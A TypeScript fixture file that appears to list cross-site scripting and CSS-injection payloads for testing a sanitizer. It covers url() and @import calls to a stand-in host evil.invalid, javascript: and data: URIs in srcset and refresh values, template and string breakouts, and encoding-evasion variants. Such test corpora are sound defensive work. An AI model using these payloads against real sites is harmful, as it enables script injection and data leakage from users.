const line = (text: string): string[] => text.split("\n").filter((one) => one !== "");

/** CSS that leaves a value, runs or fetches. */
export const styles: readonly string[] = [
  ...line(String.raw`
url(//evil.invalid/x)
url("//evil.invalid/x")
url('//evil.invalid/x')
URL(//evil.invalid/x)
u\72l(//evil.invalid/x)
\75\72\6c(//evil.invalid/x)
url\28//evil.invalid/x)
url(/**/"//evil.invalid/x")
url/**/(//evil.invalid/x)
red url(//evil.invalid/x)
red;background:url(//evil.invalid/x)
red}*{background:url(//evil.invalid/x)}
red;}@import "//evil.invalid/x.css";{
red!important;background:url(//evil.invalid/x)
red/*;*/;background:url(//evil.invalid/x)
red;/*
*/;background:url(//evil.invalid/x);/*
";background:url(//evil.invalid/x);"
';background:url(//evil.invalid/x);'
\";background:url(//evil.invalid/x)
image("//evil.invalid/x")
image-set("//evil.invalid/x" 1x)
-webkit-image-set(url(//evil.invalid/x) 1x)
cross-fade(url(//evil.invalid/x), red 50%)
-webkit-cross-fade(url(//evil.invalid/x), url(/x), .5)
src("//evil.invalid/x")
element(#x)
paint(x)
attr(title url)
var(--x, url(//evil.invalid/x))
env(x, url(//evil.invalid/x))
expression(alert(1))
expre/**/ssion(alert(1))
\65xpression(alert(1))
-moz-binding:url(//evil.invalid/x.xml#x)
behavior:url(//evil.invalid/x.htc)
progid:DXImageTransform.Microsoft.AlphaImageLoader(src='//evil.invalid/x')
javascript:alert(1)
url(javascript:alert(1))
url(data:image/svg+xml,<svg/onload=alert(1)>)
@import "//evil.invalid/x.css"
@font-face{src:url(//evil.invalid/x)}
</style><script>alert(1)</script>
<!--</style><script>alert(1)</script>-->
{}*{color:red}
red;--x:{background:url(//evil.invalid/x)}
url(#x) url(//evil.invalid/x#y)
url(#x);fill:url(//evil.invalid/x#y)
url(//evil.invalid/x.svg#y)
url('#x' url(//evil.invalid/x))
red;position:fixed;inset:0
`),
  "red\n;background:url(//evil.invalid/x)",
  "url(\u0000//evil.invalid/x)",
  "red;\fbackground:url(//evil.invalid/x)",
  "u\0rl(//evil.invalid/x)",
  "＂;background:url(//evil.invalid/x)",
];

/** Candidates of images and refreshes. */
export const lists: readonly string[] = [
  ...line(String.raw`
javascript:alert(1) 1x
/a 1x, javascript:alert(1) 2x
/a,javascript:alert(1)
/a 1x,,,javascript:alert(1) 2x
/a (1x,2x), data:text/html,<script>alert(1)</script> 2x
,javascript:alert(1)
data:image/svg+xml,<svg/onload=alert(1)> 1x
0;url=javascript:alert(1)
0;javascript:alert(1)
0,javascript:alert(1)
0 javascript:alert(1)
0;URL='javascript:alert(1)'
0;URL="javascript:alert(1)
0; url = javascript:alert(1)
0;url=url=javascript:alert(1)
.;url=javascript:alert(1)
.0;url=javascript:alert(1)
0.0.0;url=javascript:alert(1)
0;url=data:text/html,<script>alert(1)</script>
0;url=data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==
0;url=vbscript:alert(1)
0;url='java
-0;url=javascript:alert(1)
+0;url=javascript:alert(1)
0x;url=javascript:alert(1)
url=javascript:alert(1)
;url=javascript:alert(1)
`),
  "0;url=java\tscript:alert(1)",
  "0;url=\u0001javascript:alert(1)",
  "0;url='\njavascript:alert(1)'",
  "\f0\f;\furl\f=\fjavascript:alert(1)",
  "0\u000b;url=javascript:alert(1)",
  "0\u00a0;url=javascript:alert(1)",
  "0\u0000;url=javascript:alert(1)",
  "/a 1x,\u00a0javascript:alert(1) 2x",
  "/a 1x,\u000bjavascript:alert(1) 2x",
];

/** What leaves strings of scripts, templates and JSON. */
export const scripts: readonly string[] = [
  ...line(String.raw`
alert(1)
";alert(1);"
';alert(1);'
\";alert(1);//
\\";alert(1);//
${"${alert(1)}"}
{{alert(1)}}
{{constructor.constructor('alert(1)')()}}
{%alert(1)%}
#{alert(1)}
<%= alert(1) %>
[[alert(1)]]
*/alert(1)/*
//*/alert(1)
-->alert(1)
<!--alert(1)
<!--<script>alert(1)
<!--<script></script>alert(1)
</script><svg onload=alert(1)>
]]>alert(1)
"}};alert(1);//
{"__proto__":{"x":"<script>alert(1)</script>"}}
{"onclick":"alert(1)","srcdoc":"<script>alert(1)</script>"}
constructor
__proto__
toString
onclick
onload=alert(1)
srcdoc
style
href=javascript:alert(1)
x onclick=alert(1)
x/onclick=alert(1)
x>y<script>alert(1)</script>
x="y" onclick="alert(1)
$&
$1
$'
`),
  "alert(1)",
  "\u2028alert(1)",
  "'\u2029;alert(1)//",
  "\n-->alert(1)",
  "\r\nalert(1)",
];

/** Encodings, and characters that become others. */
export const characters: readonly string[] = [
  "\u0000<script>alert(1)</script>",
  "<\u0000script>alert(1)</script>",
  "<scr\u0000ipt>alert(1)</scr\u0000ipt>",
  "<img src=x on\u0000error=alert(1)>",
  "<img\u000bsrc=x\u000bonerror=alert(1)>",
  "<img\fsrc=x\fonerror=alert(1)>",
  "<img\rsrc=x\ronerror=alert(1)>",
  "\r<script>alert(1)</script>",
  "\n<script>alert(1)</script>",
  "\uFEFF<script>alert(1)</script>",
  "\uFFFE<script>alert(1)</script>",
  "\ud800<script>alert(1)</script>",
  "\udc00\ud800<script>alert(1)</script>",
  "<\ud800script>alert(1)</script>",
  "＜script＞alert(1)＜/script＞",
  "﹤script﹥alert(1)﹤/script﹥",
  "‹script›alert(1)‹/script›",
  "\u00bcscript\u00bealert(1)\u00bc/script\u00be",
  "ʺ onclick=alert(1) ʺ",
  "＂ onclick=alert(1) ＂",
  "ʹ onclick=alert(1) ʹ",
  "` onclick=alert(1) `",
  "``onmouseover=alert(1)",
  "+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "+/v8-+ADw-script+AD4-alert(1)+ADw-/script+AD4-",
  "\u001b$B<script>alert(1)</script>",
  '\u001b(J\\";alert(1)//',
  '\u001b$@" onclick=alert(1) \u001b(B"',
  "\u001b(B<img src=x onerror=alert(1)>",
  "~{<script>alert(1)</script>~}",
  "\u0080\u0081<script>alert(1)</script>",
  "\u00c0\u00bcscript\u00c0\u00bealert(1)",
  "\u00e2\u0080\u00a8alert(1)",
  "\u0130<script>alert(1)</script>",
  "<ſcript>alert(1)</ſcript>",
  "<scrıpt>alert(1)</scrıpt>",
  "<K onclick=alert(1)>",
  "\u202e<script>alert(1)</script>",
  "\u200b<script>alert(1)</script>",
  "<\u200bscript>alert(1)</script>",
  "&lt;script&gt;alert(1)&lt;/script&gt;",
  "&#60;script&#62;alert(1)&#60;/script&#62;",
  "&#x3c;script&#x3e;alert(1)&#x3c;/script&#x3e;",
  "&amp;lt;script&amp;gt;alert(1)",
  "&lt;img src=x onerror=alert(1)&gt;",
  "&quot; onclick=alert(1) &quot;",
  "&#34; onclick=alert(1) x=&#34;",
  "&#39; onclick=alert(1) x=&#39;",
  "&#x22 onclick=alert(1) ",
  "&quot onclick=alert(1)",
  "&NewLine;&Tab;&colon;&lpar;&rpar;",
  "&ampquot; onclick=alert(1)",
  "%3Cscript%3Ealert(1)%3C/script%3E",
  "%22%20onclick=alert(1)%20",
  "\\x3cscript\\x3ealert(1)\\x3c/script\\x3e",
  "\\u003cscript\\u003ealert(1)\\u003c/script\\u003e",
  "\\74script\\76alert(1)",
  `${"<".repeat(3000)}script>alert(1)</script>`,
  `${"a".repeat(66_000)}"><script>alert(1)</script>`,
  `${"<b>".repeat(200)}<script>alert(1)</script>`,
];
